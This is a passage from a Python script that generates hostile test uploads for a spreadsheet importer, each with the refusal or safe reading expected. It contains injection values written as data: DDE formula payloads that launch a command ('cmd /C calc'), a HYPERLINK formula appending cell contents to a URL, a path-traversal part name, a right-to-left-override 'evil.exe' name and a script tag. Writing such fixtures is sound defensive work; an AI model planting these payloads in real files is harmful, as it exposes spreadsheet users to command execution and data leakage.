        "refused", "The file refers to another file by an XML entity; nothing outside it was read."
    )


@fixture("path_escape.xlsx")
def path_escape() -> tuple[Payload, dict[str, Any]]:
    """A part named ../../escaped.txt beside a sound map."""
    return rewrite(
        as_bytes(small_map().sheet.parent), lambda _, data: data, {"../../escaped.txt": b"outside"}
    ), hostile(
        "refused or read",
        "Nothing may be written outside; the part is ignored or the file refused.",
        never_write="escaped.txt",
    )


def with_macro(main_type: str) -> bytes:
    """A sound map with a macro project in it."""

    def change(name: str, data: bytes) -> bytes:
        text = data.decode() if name.endswith((".xml", ".rels")) else ""
        if name == "[Content_Types].xml":
            text = text.replace(XLSX_TYPE, main_type)
            return text.replace(
                "</Types>", '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>'
            ).encode()
        if name == "xl/_rels/workbook.xml.rels":
            link = (
                '<Relationship Id="rIdMacro" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" '
            )
            return text.replace("</Relationships>", link + 'Target="vbaProject.bin"/></Relationships>').encode()
        return data

    project = compound_file({"PROJECT": b'ID="{00000000-0000-0000-0000-000000000000}"\r\n', "VBA": b"\x01"})
    return rewrite(as_bytes(small_map().sheet.parent), change, {"xl/vbaProject.bin": project})


@fixture("macro.xlsm")
def macro() -> tuple[Payload, dict[str, Any]]:
    """A workbook with macros that says so."""
    return with_macro(MACRO_TYPE), hostile(
        "refused", "The workbook contains macros. Save it as a workbook without macros (.xlsx) and upload that."
    )


@fixture("macro_named_xlsx.xlsx")
def macro_renamed() -> tuple[Payload, dict[str, Any]]:
    """A workbook with macros under the name of one without."""
    return with_macro(XLSX_TYPE), hostile(
        "refused", "The workbook contains macros though its name ends in .xlsx. Save it again without macros."
    )


@fixture("external_link.xlsx")
def external_link() -> tuple[Payload, dict[str, Any]]:
    """A map with a link to another workbook on a file server, used by one formula."""
    place = small_map()
    book = ExternalBook(sheetNames=ExternalSheetNames(sheetName=["Costs"]))
    book.id = "rId1"
    link = ExternalLink(externalBook=book)
    link.file_link = Relationship(
        type="externalLinkPath", Target="file:///\\\\server\\finance\\costs.xlsx", TargetMode="External", Id="rId1"
    )
    place.sheet.parent._external_links.append(link)
    cell = f"{place.letter('value')}2"
    place.sheet[cell] = "=[1]Costs!B4"
    return with_stored_results(as_bytes(place.sheet.parent), {cell: 7420}), hostile(
        "refused or read with a note",
        "The workbook takes figures from another file (costs.xlsx). Replace them by their values and upload again; "
        "nothing was fetched.",
        cell=cell,
    )


@fixture("tall_sheet.xlsx")
def tall_sheet() -> tuple[Payload, dict[str, Any]]:
    """400,000 rows that look like outcomes."""
    packer = zlib.compressobj(5, zlib.DEFLATED, -15)
    packed, crc, size = [], 0, 0

    def pieces() -> Iterator[bytes]:
        yield sheet_start().encode()
        for start in range(2, 400002, 8000):
            yield "".join([
                f'<row r="{row}"><c r="A{row}"><v>{row % 7}</v></c><c r="C{row}"><v>{row}</v></c></row>'
                for row in range(start, start + 8000)
            ]).encode()  # fmt: skip
        yield SHEET_END.encode()

    for piece in pieces():
        packed.append(packer.compress(piece))
        crc, size = zlib.crc32(piece, crc), size + len(piece)
    packed.append(packer.flush())
    return hand_made(Member("xl/worksheets/sheet1.xml", b"".join(packed), crc, size)), hostile(
        "refused",
        "The sheet has 400,001 rows; a value map has a few hundred at most.",
        rows=400001,
        unpacked_bytes=size,
    )


@fixture("wide_sheet.xlsx")
def wide_sheet() -> tuple[Payload, dict[str, Any]]:
    """A map followed by 180 columns that nobody can place: 200 columns in all."""
    sheet = new_sheet("Map")
    columns = bare_columns(column("attribution", "Attribution (others)", form=percent), True)
    known = len(columns)
    columns += [column("blank", f"Question {k}") for k in range(1, 201 - known)]
    place = lay(sheet, children_centre(), columns)
    for row in range(2, place.last_row + 1):
        for number in range(known + 1, 201):
            sheet.cell(row, number, (row * number) % 5)
    return sheet.parent, hostile(
        "read with a note, or refused",
        f"The sheet has 200 columns; {known} were recognised and the others are listed, not imported.",
        recognised_columns=known,
        columns=200,
        outcomes=describe(place)["outcomes"],
    )


@fixture("old_excel.xls")
def old_excel() -> tuple[Payload, dict[str, Any]]:
    """Header of Excel 97 to 2003."""
    start = struct.pack("<HHHHHHII", 0x0809, 16, 0x0600, 0x0005, 0x0DBB, 0x07CC, 0, 6) + struct.pack("<HH", 0x000A, 0)
    return compound_file({"Workbook": start}), hostile(
        "refused", "This is an old Excel file (.xls). Open it and save it as .xlsx."
    )


@fixture("old_excel_named_xlsx.xlsx")
def old_excel_renamed() -> tuple[Payload, dict[str, Any]]:
    """The same under the name of a new one."""
    return old_excel()[0], hostile(
        "refused", "The name ends in .xlsx but this is an old Excel file (.xls). Open it and save it as .xlsx."
    )


@fixture("pdf_inside.xlsx")
def pdf_inside() -> tuple[Payload, dict[str, Any]]:
    """A PDF under the name of a workbook."""
    text = (
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Count 1/Kids[3 0 R]>>endobj\n"
        b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>endobj\ntrailer<</Root 1 0 R/Size 4>>\n%%EOF\n"
    )
    return text, hostile("refused", "The name ends in .xlsx but this is a PDF. Upload the spreadsheet itself.")


@fixture("web_page.xls")
def web_page() -> tuple[Payload, dict[str, Any]]:
    """A web table named .xls, as some case management systems export it."""
    text = (
        "<html><body><table><tr><th>Stakeholder</th><th>Outcome</th></tr><tr><td>Parents</td><td>Work</td></tr></table>"
    )
    return (text + "</body></html>").encode(), hostile(
        "refused",
        "The name ends in .xls but this is a web page. Open it in a spreadsheet program and save it as .xlsx.",
    )


@fixture("password_protected.xlsx")
def password_protected() -> tuple[Payload, dict[str, Any]]:
    """The container of an encrypted workbook: an OLE file with EncryptionInfo and EncryptedPackage."""
    information = struct.pack("<HHI", 4, 4, 0x40) + b'<?xml version="1.0"?><encryption/>'
    return compound_file({"EncryptionInfo": information, "EncryptedPackage": bytes(range(256)) * 20}), hostile(
        "refused",
        "The workbook is protected with a password. Remove the password (Info, Protect Workbook) and upload again.",
    )


@fixture("empty_workbook.xlsx")
def empty_workbook() -> tuple[Payload, dict[str, Any]]:
    """A new workbook, saved untouched."""
    return new_sheet("Sheet1").parent, hostile("refused", "The workbook is empty: no sheet has any cell filled in.")


@fixture("headings_only.xlsx")
def headings_only() -> tuple[Payload, dict[str, Any]]:
    """The template nobody filled in."""
    place = template_sheet(replace(children_centre(), groups=()))
    return place.sheet.parent, hostile("refused", "The headings of a value map were found, but no outcome below them.")


@fixture("charts_and_hidden_sheets.xlsx")
def charts_and_hidden_sheets() -> tuple[Payload, dict[str, Any]]:
    """Only a chart sheet can be seen; the map sits on a hidden sheet, another one on a very hidden sheet."""
    place = small_map()
    workbook = place.sheet.parent
    chart = BarChart()
    chart.add_data(Reference(place.sheet, min_col=place.index("impact"), min_row=1, max_row=place.last_row))
    workbook.create_chartsheet("Chart", 0).add_chart(chart)
    place.sheet.sheet_state = "hidden"
    secret = workbook.create_sheet("Old map")
    lay(secret, livelihoods(), bare_columns(column("attribution", "Attribution (others)", form=percent), False))
    secret.sheet_state = "veryHidden"
    workbook.active = 0
    return workbook, hostile(
        "refused or asked",
        "No sheet that can be seen holds a table. Hidden sheets (Map, Old map) hold one: show the right one and upload "
        "again.",
        hidden_sheets=["Map", "Old map"],
    )


FORMULA_NAMES = (
    '=HYPERLINK("http://example.invalid/?"&A1,"Parents")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1",
    "-2+3",
    "\t=1+1",
    "=1+1",
)


@fixture("formula_names.xlsx")
def formula_names() -> tuple[Payload, dict[str, Any]]:
    """Names that a spreadsheet program would run; all are text cells but the last, which is a true formula."""
    outcome = Outcome("", 10, 100, 0.2, 0.1, 0.25, 0.1, 2)
    groups = tuple(
        Group(name, None, (), None, (replace(outcome, name=f"{name} outcome" if k % 2 else f"Outcome {k}"),))
        for k, name in enumerate(FORMULA_NAMES)
    )
    sheet = new_sheet("Map")
    columns = bare_columns(column("attribution", "Attribution (others)", form=percent), True)
    place = lay(sheet, Case("Names that look like formulas", "GBP", groups), columns)
    for line in place.lines[:-1]:
        for number in (1, 4):
            sheet.cell(line.row, number).data_type = "s"
    last = place.lines[-1]
    record = describe(place)
    record["outcomes"][-1]["stakeholder"] = "2, the stored result of the formula"
    return with_stored_results(as_bytes(sheet.parent), {f"A{last.row}": "2"}), hostile(
        "read",
        "Names are kept as text. In every file the calculator writes they must stay text, never a formula; the formula "
        f"in A{last.row} is read as its result.",
        outcomes=record["outcomes"],
        formula_cell=f"A{last.row}",
    )


UNICODE_NAMES = (
    "\u202eevil.exe\u202c parents",
    "\u05d4\u05d5\u05e8\u05d9\u05dd \u200f(parents)",
    "\u0622\u0628\u0627\u0621 \u0648\u0623\u0645\u0647\u0627\u062a",
    "Family \U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466 \U0001f1f3\U0001f1f4",
    "Zo\u0065\u0308 and Zo\u00eb",
    "Par\u200bents",
    "Sm\u00e5barnsforeldre \u00c6\u00d8\u00c5",
    "\u5f71\u9999\u5730\u56f3",
    "<script>alert(1)</script> & \"friends\"",
    "Parents" + " of many children" * 120,
)  # fmt: skip


@fixture("unicode_names.xlsx")
def unicode_names() -> tuple[Payload, dict[str, Any]]:
    """Names with direction marks, joined emoji, combining letters, a zero-width space, markup and 2,000 letters."""
    groups = tuple(
        Group(name, None, (), None, (Outcome(f"Change {k} for {name[:40]}", 10 + k, 100, 0.2, 0, 0.25, 0.1, 2),))
        for k, name in enumerate(UNICODE_NAMES)
    )
    sheet = new_sheet("\u5f71\u9999\u5730\u56f3 \U0001f4ca")
    columns = bare_columns(column("attribution", "Attribution (others)", form=percent), True)
    place = lay(sheet, Case("Names from everywhere", "GBP", groups), columns)
    return sheet.parent, hostile(
        "read",
        "Names are kept; marks that turn the reading direction or cannot be seen are removed or shown, and the user is "
        "told; the long name is cut with a note; markup is shown as text.",
        outcomes=describe(place)["outcomes"],
    )


@fixture("not_a_workbook.xlsx")
def not_a_workbook() -> tuple[Payload, dict[str, Any]]:
    """A zip archive with a text file."""
    return archive([member("readme.txt", b"The workbook is on the shared drive.")]), hostile(
        "refused", "This is a zip archive, but not a workbook."
    )


@fixture("cut_short.xlsx")
def cut_short() -> tuple[Payload, dict[str, Any]]:
    """An upload that broke off."""
    data = as_bytes(small_map().sheet.parent)
    return data[: len(data) * 2 // 3], hostile("refused", "The file is damaged or incomplete. Upload it again.")


@fixture("no_bytes.xlsx")
def no_bytes() -> tuple[Payload, dict[str, Any]]:
    """Nothing at all."""
    return b"", hostile("refused", "The file is empty (0 bytes).")


@fixture("binary.csv")
def binary() -> tuple[Payload, dict[str, Any]]:
    """Bytes that are no text, named .csv."""
    return bytes(range(256)) * 40, hostile("refused", "The file is not text: no encoding can read it as a table.")


@fixture("formula_names.csv")
def formula_names_text() -> tuple[Payload, dict[str, Any]]:
    """The names above in a text file, one of them behind an apostrophe as a safe export writes it."""
    lines = [["Stakeholder", "Outcome", "Quantity", "Value", "Deadweight", "Attribution (others)"]]
    lines += [[name, f"Outcome {k}", "10", "100", "20%", "25%"] for k, name in enumerate((*FORMULA_NAMES, "'=1+1"))]
    buffer = io.StringIO()
    csv.writer(buffer).writerows(lines)
    return buffer.getvalue().encode(), hostile(
        "read",
        "Names are kept as text and never run; a leading apostrophe may be taken off.",
        stakeholders=[r[0] for r in lines[1:]],
    )


# ---------------------------------------------------------------------------------------------------------------------
# Program
# ---------------------------------------------------------------------------------------------------------------------


def write(folder: Path, names: Iterable[str] = ()) -> list[Path]:
    """Write the named fixtures, or all, into a folder and return their paths."""
    folder.mkdir(parents=True, exist_ok=True)
    written = []
    for name in names or FIXTURES:
        payload, _ = FIXTURES[name]()
        path = folder / name
        if isinstance(payload, bytes):
            path.write_bytes(payload)
        else:
            payload.save(path)
        written.append(path)
    return written


EXPECTED_TOP = """\
# What is on the sheet of every fixture of make.py, independently of any importer.
# Written by "python make.py --expected expected.yaml" from the figures the sheets are made of; do not edit by hand.
#
# kind               map: rows of outcomes to import | form, price_list, other_tool: read differently or explained
#                    | hostile: result and told
# row, *_rows        row numbers of the sheet, from 1 (in text files: records, from 1, not lines)
# attribution        share caused by others (deducted); null where it cannot be told
# attribution_printed  what a reader sees in the attribution cell
# delay              0 starts in the period of activity, 1 in the period after (printed as 1 and 2)
# impact, years      as printed, planted errors included; wrong_rows tells what is wrong and what is right
# printed_to         smallest step of printed money where cells are text; otherwise cells hold every decimal
# not_on_sheet       fields without a column; to_ask: what a careful importer asks; told: what the user should be told
# timing.outcomes    end: first year divided by 1 + rate; start: not discounted; mid: by its square root
"""


def tidy(value: Any) -> Any:
    """Round numbers to twelve digits and lay records of numbers and words on one line."""
    from ruamel.yaml.comments import CommentedMap, CommentedSeq

    if isinstance(value, dict):
        found = CommentedMap((key, tidy(item)) for key, item in value.items())
        leaf = not any(isinstance(item, dict | list) and item for item in value.values())
        if (leaf or "row" in value) and all(re.fullmatch(r"\w+", key) for key in value):
            found.fa.set_flow_style()
        return found
    if isinstance(value, list | tuple):
        listed = CommentedSeq(tidy(item) for item in value)
        if not any(isinstance(item, dict) or len(str(item)) > 40 for item in value):
            listed.fa.set_flow_style()
        return listed
    if isinstance(value, float):
        rounded = float(f"{value:.12g}")
        return int(rounded) if rounded == int(rounded) and abs(rounded) < 1e15 else rounded
    return value


def write_expected(path: Path) -> None:
    """Write down what every fixture says."""
    from ruamel.yaml import YAML

    yaml = YAML()
    yaml.width = 120
    yaml.allow_unicode = True
    yaml.indent(mapping=2, sequence=4, offset=2)
    records = {}
    for name, build in FIXTURES.items():
        summary = " ".join((build.__doc__ or "").split())
        records[name] = {"about": summary, **build()[1]}
    buffer = io.StringIO()
    yaml.dump({"fixtures": tidy(records)}, buffer)
    lines = (line.rstrip() for line in buffer.getvalue().splitlines())
    path.write_text(EXPECTED_TOP + "\n".join(lines) + "\n", encoding="utf-8")


def main(arguments: Sequence[str]) -> int:
    """Read the command line."""
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0] if __doc__ else None)
    parser.add_argument("folder", nargs="?", type=Path, help="folder for the fixtures")
    parser.add_argument("names", nargs="*", help="only these fixtures")
    parser.add_argument("--expected", type=Path, help="write down what is on every sheet")
    options = parser.parse_args(arguments)
    if options.folder:
        write(options.folder, options.names)
    if options.expected:
        write_expected(options.expected)
    return 0 if options.folder or options.expected else 2


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
